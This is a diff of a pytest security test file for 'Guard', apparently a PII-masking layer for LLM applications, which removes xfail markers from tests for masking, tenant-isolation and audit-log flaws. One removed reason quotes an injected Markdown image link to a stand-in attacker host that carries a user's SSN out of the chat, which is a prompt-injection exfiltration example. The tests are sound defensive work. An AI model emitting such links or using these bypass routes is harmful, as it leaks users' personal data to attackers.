@@ -121,11 +121,6 @@ def test_detector_failure_fails_closed_without_the_value(entry: str) -> None:
     assert leaked(exc_chain_text(info.value)) == []
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="Guard._scan raises DetectionError inside the except block ('from None'): the "
-    "suppressed __context__ still holds the detector's exception, raw input in its message",
-)
 def test_detection_error_keeps_no_reachable_raw_context() -> None:
     g = Guard(store="memory://", detector=RaisingDetector())
     with pytest.raises(GuardError) as info:
@@ -299,10 +294,6 @@ def test_other_scopes_bracket_token_is_audited_as_foreign(mem: Guard) -> None:
     assert any(r["event"] == "foreign_token" for r in (x.to_dict() for x in mem.audit.query()))
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="full-width-bracket token from another scope is left alone but not counted/audited as foreign",
-)
 def test_fullwidth_foreign_token_is_audited(mem: Guard) -> None:
     mem.mask(f"mail {EMAIL}", scope="A")
     # scope A restores this form (tolerant restore), so it is a token form; in B it is foreign
@@ -321,11 +312,6 @@ def test_other_tenant_never_resolves_a_token(tmp_path: Any) -> None:
     assert t2.unmask(tok, scope="acme/s") == tok  # a scope name cannot climb into another tenant
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="Guard._scope/_subject join tenant and scope with '/': tenant 'acme/eu' scope 't1' == "
-    "tenant 'acme' scope 'eu/t1', so one tenant reveals (and can forget) another's values",
-)
 def test_tenant_and_scope_names_cannot_collide(tmp_path: Any) -> None:
     url = f"sqlite:///{tmp_path / 'mt.db'}"
     victim = Guard(store=url, key=TEST_KEY, tenant="acme/eu")
@@ -454,19 +440,11 @@ def test_wrapped_tool_compact_json_output_is_masked(mem: Guard) -> None:
 # ============================================================================ mask_object shapes
 
 
-@pytest.mark.xfail(
-    strict=True, reason="Guard.mask_object masks values but never dict keys: {email: ...} leaks the key"
-)
 def test_mask_object_masks_dict_keys(mem: Guard) -> None:
     out = mem.mask_object({EMAIL: {"ssn": SSN}, "by_ssn": {SSN: 1}}, scope="s")
     assert leaked(json.dumps(out)) == []
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="Guard.mask_object on a cyclic list masks the top level and returns the original "
-    "inner cycle unmasked (rebuild stops at paths with no finding)",
-)
 def test_mask_object_cyclic_structure_masks_or_refuses(mem: Guard) -> None:
     cyclic: list[Any] = [EMAIL]
     cyclic.append(cyclic)
@@ -504,11 +482,6 @@ class Contact:
     email: str
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="with a text-only detector (no scan_object) Guard._walk_leaves returns sets, bytes, "
-    "dataclasses and dict keys unchanged: fail-open",
-)
 def test_text_only_detector_mask_object_fails_closed() -> None:
     g = Guard(store="memory://", detector=TextOnlyDetector())
     obj = {"set": {EMAIL}, "bytes": EMAIL.encode(), "dc": Contact(EMAIL), "frozen": frozenset([SSN])}
@@ -530,11 +503,6 @@ class OverlappingDetector:
         ]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="Guard._apply skips a finding that starts inside an earlier one, so the tail of a "
-    "longer overlapping span (most of a card number) stays raw: half-masked",
-)
 def test_overlapping_findings_never_half_mask() -> None:
     g = Guard(store="memory://", detector=OverlappingDetector())
     out = g.mask(f"pay with card {CARD} today", scope="s")
@@ -727,11 +695,6 @@ def test_replayed_old_record_is_detected(tmp_path: Any) -> None:
     assert not Guard(store=f"sqlite:///{path}", key=TEST_KEY).audit.verify()
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="audit_anchor (count, head) is not keyed: deleting the newest records and rewriting the "
-    "anchor to the new tail passes verify() (the MAC covers records, not the anchor)",
-)
 def test_truncated_tail_with_rewritten_anchor_is_detected(tmp_path: Any) -> None:
     _, path = _audit_db(tmp_path)
     conn = sqlite3.connect(path)
@@ -772,11 +735,6 @@ def test_guardllm_scan_rejects_non_text_cleanly() -> None:
 # ============================================================================ scope fallback
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="with no thread_id/guardllm_scope every caller shares the Guard's 'default' scope: "
-    "user u2's answer restores [EMAIL_1] masked from user u1's prompt (cross-user reveal)",
-)
 def test_no_thread_id_does_not_share_tokens_between_users(mem: Guard) -> None:
     from langchain_core.language_models import GenericFakeChatModel
     from langchain_core.messages import AIMessage
@@ -981,11 +939,6 @@ def test_agent_middleware_exfiltration_gets_only_granted_types(mem: Guard) -> No
     assert out["messages"]  # the run finished
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="unmask(to='user') restores tokens inside URLs (Markdown image/link targets, <img src>): "
-    "an injected ![](https://attacker/?d=[SSN_1]) makes the user's chat UI send the SSN to the attacker",
-)
 @pytest.mark.parametrize(
     "answer",
     [
